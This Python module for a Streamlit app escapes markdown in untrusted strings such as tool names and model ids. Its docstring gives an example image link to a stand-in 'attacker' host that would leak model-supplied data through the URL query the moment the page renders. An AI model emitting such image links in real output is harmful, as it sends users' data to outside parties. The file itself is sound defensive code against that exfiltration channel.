"""Text someone else wrote, shown literally where Streamlit draws markdown.

Captions, alerts, headings, toasts, widget labels and help, expander and tab labels, image
captions all render markdown. A tool call's name, a prompt file's evaluator name or an endpoint's
model id that says `![x](https://attacker/?q=...)` would make the browser fetch that URL at once
(leaking whatever the model put in it), `[link](...)` and bare URLs would turn into links, and
`**`, `#`, `:red[...]` would restyle the page. So every such string goes through `plain` first;
the reply body, which is meant to be markdown, keeps its own image guard
(components.conversation.without_images).

Selectbox and multiselect options are drawn as text by Streamlit: they need no escape (one would
show as a backslash). st.text and st.code need none either.
"""

from __future__ import annotations

import re

# Inline markdown anywhere in a line: escapes, code, emphasis, strikethrough, links, images and
# directives (`[`), HTML and autolinks (`<`), entities (`&`), math (`$`), table cells (`|`), e-mail
# autolinks (`@`). CommonMark lets any ASCII punctuation be backslash-escaped, and shows it as itself.
_INLINE = re.compile(r"([\\`*_~\[\]<&$|@])")
# Block markdown, only at the start of a line: headings, quotes, list items, setext underlines,
# ordered list numbers ("1." / "1)").
_LINE_START = re.compile(r"^(\s*)([#>+=-]|\d+[.)])", re.MULTILINE)
# Bare URLs that GFM turns into links by themselves: "scheme://" and "www.".
_AUTOLINK = re.compile(r"(://)|(?<![\w.])(www)\.", re.IGNORECASE)


def plain(text: object) -> str:
    """`text` as markdown that shows exactly these characters: no formatting, link or image.
    Ordinary sentences come out unchanged (only markdown's own characters gain a backslash)."""
    escaped = _INLINE.sub(r"\\\1", str(text))
    escaped = _LINE_START.sub(lambda m: m.group(1) + re.sub(r"([^\w\s])", r"\\\1", m.group(2)), escaped)
    return _AUTOLINK.sub(lambda m: "\\://" if m.group(1) else m.group(2) + "\\.", escaped)
